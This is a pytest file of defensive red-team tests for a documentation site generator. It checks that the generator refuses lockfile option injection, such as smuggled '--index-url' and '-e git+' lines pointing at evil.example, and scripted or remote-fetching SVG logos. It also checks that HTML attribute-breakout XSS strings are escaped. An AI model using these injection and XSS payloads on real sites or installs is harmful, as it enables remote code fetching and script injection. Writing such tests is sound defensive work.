"""Red-team attacks on `sopsite init`'s identity and lock: a `--sopsite` value that adds a
line or an option to requirements.lock, and an SVG logo that runs script when a reader
opens its address (tried in Chromium, to show each refused payload would really run)."""

from __future__ import annotations

import html
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from generator.commands.lockfile import LockError, detect
from generator.commands.scaffold import Identity, ScaffoldError, init
from generator.mkdocs.logo import unsafe_svg
from tests.support import MINIMAL, REPO
from tests.support.browser import StaticServer, chromium, session
from tests.support.build import MERMAID_JS, build, make_project, sopsite

# --- --sopsite: one requirement line for sopsite, nothing more ------------------------------

INJECTED = [
    "sopsite @ git+https://example.org/sopsite@v1\n--index-url http://evil.example/simple/",
    "sopsite==1.0\n-e git+https://evil.example/payload#egg=payload",
    "sopsite==1.0 --global-option=--run-this",
    "sopsite @ https://example.org/sopsite-1.0-py3-none-any.whl --hash=sha256:00",
    "sopsite==1.0; python_version > '3' --index-url http://evil.example/",
    "sopsite==1.0\r--extra-index-url http://evil.example/",
    " sopsite==1.0",
    "sopsite",
]


@pytest.mark.parametrize("given", INJECTED)
def test_a_sopsite_source_cannot_add_a_line_or_an_option_to_the_lock(given: str) -> None:
    with pytest.raises(LockError, match=r"^--sopsite: expected a wheel file or a requirement "):
        detect(given)


def test_a_wheel_whose_name_is_not_a_sopsite_wheel_is_refused(tmp_path: Path) -> None:
    odd = tmp_path / "x\n--index-url http:evil.whl"
    odd.write_bytes(b"PK")
    other = tmp_path / "payload-1.0-py3-none-any.whl"
    other.write_bytes(b"PK")
    for wheel in (odd, other):
        with pytest.raises(LockError, match=r"^--sopsite: expected a sopsite wheel named as "):
            detect(str(wheel))
    fine = tmp_path / "sopsite-1.0-py3-none-any.whl"
    fine.write_bytes(b"PK")
    assert detect(str(fine)).requirement == "./vendor/sopsite-1.0-py3-none-any.whl"


def test_the_command_refuses_an_injected_source_and_writes_nothing(tmp_path: Path) -> None:
    result = sopsite("init", "hb", "--sopsite", INJECTED[0], cwd=tmp_path)
    assert result.returncode == 2, result.stderr
    assert "--sopsite: expected a wheel file or a requirement for sopsite" in result.stderr
    assert not (tmp_path / "hb").exists()
    result = sopsite("init", "hb", "--sopsite", "sopsite @ git+https://example.org/s@v1",
                     cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    lines = (tmp_path / "hb" / "requirements.lock").read_text("utf-8").splitlines()
    assert lines[2] == "sopsite @ git+https://example.org/s@v1"
    assert not [line for line in lines if line.startswith("-")]


# --- --logo: an SVG that only draws ---------------------------------------------------------

MARKER = "document.documentElement.setAttribute('data-ran', 'yes')"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
RUNNING = {
    "script": SVG + f'width="10" height="10"><script>{MARKER}</script></svg>',
    "onload": SVG + f'width="10" height="10" onload="{MARKER}"><rect width="9" height="9"/>'
                    '</svg>',
    "handler on a child": SVG + '><image width="9" height="9" href="data:image/png;base64,'
                                f'AAAA" onerror="{MARKER}"/></svg>',
    "foreignObject": SVG + '><foreignObject width="9" height="9"><img '
                           'xmlns="http://www.w3.org/1999/xhtml" src="x" '
                           f'onerror="{MARKER}"/></foreignObject></svg>',
    "set href": SVG + '><a><set attributeName="xlink:href" to="javascript:alert(1)"/>'
                      '<rect width="9" height="9"/></a></svg>',
    "javascript link": SVG + '><a href="&#106;avascript:alert(1)"><rect width="9" '
                             'height="9"/></a></svg>',
    "external use": SVG + '><use xlink:href="http://evil.example/x.svg#a"/></svg>',
    "style import": SVG + '><style>@import url(http://evil.example/x.css);</style></svg>',
    "fill url": SVG + '><rect width="9" height="9" fill="url(http://evil.example/#g)"/></svg>',
    "entities": '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaa">]>'
                + SVG + '><text>&a;</text></svg>',
    "style sheet": '<?xml-stylesheet href="http://evil.example/x.css"?>' + SVG + '/>',
    "css escape": SVG + '><style>svg { background-image: u\\72l(http://evil.example/c.png) }'
                        '</style></svg>',
    "image-set": SVG + 'style="background-image: image-set(\'http://evil.example/d.png\' 1x)"/>',
    "import escape": SVG + '><style>@\\69mport "http://evil.example/e.css";</style></svg>',
    "html meta": SVG + '><h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" '
                       'content="0;url=http://evil.example/m"/></svg>',
    "not svg": '<html xmlns="http://www.w3.org/1999/xhtml"><script>x()</script></html>',
}
"""SVG logos that run script or fetch from elsewhere when opened from the site."""

FETCHES = {"external use": "http://evil.example/x.svg",
           "style import": "http://evil.example/x.css", "fill url": "http://evil.example/",
           "style sheet": "http://evil.example/x.css", "css escape": "http://evil.example/c.png",
           "image-set": "http://evil.example/d.png", "import escape": "http://evil.example/e.css",
           "html meta": "http://evil.example/m",
           "utf-16 style sheet": "http://evil.example/u16.css"}
"""What each fetching logo asks for when opened."""

PAYLOADS = {**{name: text.encode() for name, text in RUNNING.items()},
            "utf-16 style sheet": ('<?xml-stylesheet type="text/css" href="http://evil.example/'
                                   'u16.css"?>' + SVG + '><rect width="9" height="9"/></svg>'
                                   ).encode("utf-16")}
"""The same as bytes, and one that only UTF-16 hides from a check that reads UTF-8."""

DRAWS = (SVG + 'viewBox="0 0 10 10" xmlns:inkscape="http://www.inkscape.org/namespaces/'
         'inkscape" inkscape:version="1.3"><defs><linearGradient id="g"><stop offset="0"/>'
         '</linearGradient></defs><style>.a { fill: url(#g); }</style>'
         '<rect class="a" width="10" height="10" opacity="0.5"/><use href="#g"/>'
         '<animate attributeName="opacity" from="0" to="1" dur="1s"/></svg>')
"""What drawing tools write: namespaces, gradients, style and references inside the file."""


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_an_svg_logo_that_runs_or_fetches_is_refused_and_nothing_is_written(
        tmp_path: Path, name: str) -> None:
    mark = tmp_path / "mark.svg"
    mark.write_bytes(PAYLOADS[name])
    with pytest.raises(ScaffoldError, match=r"^expected --logo as an SVG that only draws: "):
        init(tmp_path / "hb", Identity(logo=mark))
    assert not (tmp_path / "hb").exists()


def test_a_drawing_and_the_handbooks_own_logos_are_accepted(tmp_path: Path) -> None:
    assert unsafe_svg(DRAWS.encode()) is None
    for own in ("logo.svg", "favicon.svg"):
        assert unsafe_svg((REPO / "docs" / "assets" / own).read_bytes()) is None
    mark = tmp_path / "mark.svg"
    mark.write_text(DRAWS, encoding="utf-8")
    init(tmp_path / "hb", Identity(logo=mark))
    assert (tmp_path / "hb" / "docs" / "assets" / "logo.svg").read_text("utf-8") == DRAWS


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium() as running:
        yield running


@pytest.mark.slow
@pytest.mark.browser
def test_the_refused_logos_really_run_or_fetch_when_opened_and_the_drawing_does_not(
        tmp_path: Path, browser: Any) -> None:
    """The refusal is not of imagined dangers: each scripted logo, served as the site serves
    `assets/logo.svg` and opened at its address in Chromium, runs, and each fetching one asks
    another host; the accepted one does neither."""
    site = tmp_path / "site"
    (site / "assets").mkdir(parents=True)
    names = sorted(PAYLOADS)
    for index, name in enumerate(names):
        (site / "assets" / f"{index}.svg").write_bytes(PAYLOADS[name])
    (site / "assets" / "logo.svg").write_text(DRAWS, "utf-8")
    ran = "document.documentElement.getAttribute('data-ran') === 'yes'"
    with StaticServer(site) as server, session(browser) as web:
        for index, name in enumerate(names):
            # A page of its own for each: a refused navigation (the meta refresh) ends on
            # Chromium's error page a moment after the request, and must not cut short the
            # next payload's load.
            page = web.new_page()
            page.goto(f"{server.url}assets/{index}.svg")
            if name in ("script", "onload", "handler on a child", "foreignObject"):
                page.wait_for_function(ran)
            # A fetch (or the meta refresh) happens after the load: wait for it, or the
            # next page would cancel it.
            for _ in range(50):
                if name not in FETCHES or FETCHES[name] in web.blocked:
                    break
                page.wait_for_timeout(100)
            page.close()
        fetched = sorted(set(web.blocked))
        web.blocked.clear()
        page = web.new_page()
        page.goto(f"{server.url}assets/logo.svg")
        page.wait_for_timeout(1500)  # the animation begins and ends; nothing may run
        assert page.evaluate(ran) is False
        assert page.evaluate("document.documentElement.localName") == "svg"
    assert fetched == ["http://evil.example/", "http://evil.example/c.png",
                       "http://evil.example/d.png", "http://evil.example/e.css",
                       "http://evil.example/m", "http://evil.example/u16.css",
                       "http://evil.example/x.css", "http://evil.example/x.svg"]
    assert web.blocked == []


# --- the build: an SVG in docs/ that a pull request swapped in -----------------------------


@pytest.mark.slow
@pytest.mark.parametrize("where", ["assets/logo.svg", "figures/flow.svg"])
def test_a_build_refuses_an_svg_in_docs_that_runs_script(tmp_path: Path, where: str) -> None:
    """A pull request's diff shows an SVG as a picture, so its script would pass review; the
    build names the file instead of publishing it."""
    make_project(tmp_path, MINIMAL)
    image = tmp_path / "docs" / where
    image.parent.mkdir(parents=True, exist_ok=True)
    image.write_text(RUNNING["onload"], encoding="utf-8")
    result = sopsite("build", cwd=tmp_path)
    assert result.returncode == 1, result.stderr
    assert (f"docs/{where}:1:1: error [CONFIG002] expected an SVG image that only draws, found "
            "that <svg> has an event handler (onload); a reader who opens its address would "
            "run it or load from elsewhere: export it again as plain SVG") in result.stderr
    assert not (tmp_path / "site").exists()
    image.write_text(DRAWS, encoding="utf-8")
    result = sopsite("build", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "site" / where).read_text("utf-8") == DRAWS


# --- --name: the front page is rendered by mkdocs-macros ------------------------------------


@pytest.mark.slow
@pytest.mark.parametrize("name", ["R&D {% if x %} Ops", "Tiimi {%- raw -%} käsikirja {%"])
def test_a_name_with_a_jinja_tag_opener_builds_and_shows_as_typed(
        tmp_path: Path, name: str) -> None:
    """docs/index.md is a hand-written page, which mkdocs-macros renders as a Jinja template:
    the name's heading there must not open a tag, or the new repository would not build."""
    root = tmp_path / "hb"
    init(root, Identity(name))
    (root / "node_modules").symlink_to(MERMAID_JS.parents[2])
    site = build(root / "mkdocs.yml")
    heading = re.search(r'<h1 id="[^"]*">(.*?)<a class="headerlink"',
                        (site / "index.html").read_text("utf-8"))
    assert heading is not None
    assert html.unescape(heading.group(1)) == name


# --- mkdocs.yml's other text: the description and the author Material prints raw ----------

BREAKOUT = '"><img src=x onerror="window.__xss=1">'


@pytest.mark.slow
def test_the_description_author_and_repository_name_are_text_in_every_page(tmp_path: Path) -> None:
    """Material prints `site_description` and `site_author` into each page's `<meta>`, and
    `repo_name` into its header, as they stand, like the name: a quote would end the
    attribute and the rest would be markup."""
    config = make_project(tmp_path, MINIMAL)
    text = re.sub(r"^site_description: .*$", f"site_description: '{BREAKOUT} R&D'\n"
                  f"site_author: 'Ada {BREAKOUT}'\nrepo_url: https://example.org/hb\n"
                  f"repo_name: 'hb <b>{BREAKOUT}'", config.read_text("utf-8"), count=1,
                  flags=re.MULTILINE)
    config.write_text(text, "utf-8")
    site = build(config)
    page = (site / "procedures" / "sop-it-001" / "index.html").read_text("utf-8")
    shown = "&#34;&gt;&lt;img src=x onerror=&#34;window.__xss=1&#34;&gt;"
    assert f'<meta name="description" content="{shown} R&amp;D">' in page
    assert f'<meta name="author" content="Ada {shown}">' in page
    assert "hb &lt;b&gt;" + shown in page
    assert "<img src=x" not in page


@pytest.mark.slow
def test_a_hand_written_brand_stylesheet_does_not_silently_replace_the_colour(
        tmp_path: Path) -> None:
    """`brand_colour` writes `assets/stylesheets/sopsite-brand.css`; a file of that name in
    docs/ used to win without a word, so the colour in mkdocs.yml (what a reviewer reads)
    was not what the site showed."""
    make_project(tmp_path, MINIMAL)
    css = tmp_path / "docs" / "assets" / "stylesheets" / "sopsite-brand.css"
    css.parent.mkdir(parents=True, exist_ok=True)
    css.write_text(":root > * { --md-primary-fg-color: #ff00ff; }\n", "utf-8")
    result = sopsite("build", cwd=tmp_path)
    assert result.returncode == 1, result.stderr
    assert ("sopsite: docs/assets/stylesheets/sopsite-brand.css would be replaced by the "
            "stylesheet brand_colour generates; rename or remove the hand-written file"
            in result.stderr)


@pytest.mark.slow
def test_a_site_url_that_would_end_the_canonical_link_is_percent_encoded(
        tmp_path: Path) -> None:
    """MkDocs takes any http(s) address as `site_url`, and Material prints each page's
    canonical address (`site_url` joined with the page) into `<link href="...">` raw."""
    config = make_project(tmp_path, MINIMAL)
    text = config.read_text("utf-8").replace(
        "site_url: http://127.0.0.1:8000/",
        "site_url: 'http://127.0.0.1:8000/x\"><img src=x onerror=\"window.__xss=1\">/'")
    assert text != config.read_text("utf-8")
    config.write_text(text, "utf-8")
    site = build(config)
    page = (site / "procedures" / "sop-it-001" / "index.html").read_text("utf-8")
    assert ('<link rel="canonical" href="http://127.0.0.1:8000/x%22%3E%3Cimg%20src=x%20'
            'onerror=%22window.__xss=1%22%3E/procedures/sop-it-001/">') in page
    assert "<img src=x" not in page
